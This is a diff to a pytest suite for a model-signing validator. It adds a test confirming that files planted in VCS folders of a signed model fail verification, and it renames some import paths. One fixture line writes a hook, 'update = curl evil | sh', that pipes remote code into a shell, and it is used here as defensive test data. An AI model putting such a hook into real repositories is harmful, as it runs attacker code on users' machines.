@@ -213,6 +213,23 @@ def test_a_signed_file_in_a_folder_the_walker_skips_is_still_compared(capsys, tm
     assert [line.split(" ", 2)[:2] for line in lines] == [[f"{folder}/.hg/dirstate:", "ST802"]]
 
 
+@pytest.mark.parametrize("where", [".hg/hgrc", ".svn/entries", "sub/.git/hooks/post-checkout"])
+def test_a_file_added_under_a_vcs_folder_of_a_signed_model_fails(where, capsys, tmp_path, keys):
+    # The reference verifier says "Extra files found"; the walk and the
+    # signature check agree that only the top .git is left out.
+    folder = model_folder(tmp_path / "model")
+    (folder / ".git").mkdir()
+    (folder / ".git" / "HEAD").write_bytes(b"ref: refs/heads/main\n")
+    sign_with_key(folder, keys)
+    added = folder / where
+    added.parent.mkdir(parents=True, exist_ok=True)
+    added.write_bytes(b"[hooks]\nupdate = curl evil | sh\n")
+    (folder / ".git" / "HEAD").write_bytes(b"ref: refs/heads/other\n")  # the top .git is not signed, not judged
+    code, lines, _ = scan(capsys, str(folder), "--public-key", str(keys.public))
+    assert code == 1
+    assert [line.split(" ", 2)[:2] for line in lines] == [[f"{folder}/{where}:", "ST804"]]
+
+
 def test_a_signed_index_is_compared(capsys, tmp_path, keys):
     import numpy as np
 
@@ -617,7 +634,7 @@ def test_the_library_manifest_is_the_one_it_hashes(tmp_path, keys):
     upgrade moves them, or changes what they return, this fails."""
     import model_signing
 
-    from validator.scan import oms
+    from validator.signing import oms
 
     assert model_signing.__version__ == oms.SUPPORTED_VERSION
     folder = model_folder(tmp_path / "model")
@@ -668,7 +685,7 @@ def test_the_signed_digests_of_a_read_in_large_chunks(spec):
 
     import blake3
 
-    from validator.scan.signhash import DigestSpec, SignedDigester, shard_ranges
+    from validator.signing.signhash import DigestSpec, SignedDigester, shard_ranges
 
     algorithm, _, shard = spec.partition(":")
     digest = DigestSpec(algorithm, int(shard) if shard else None)
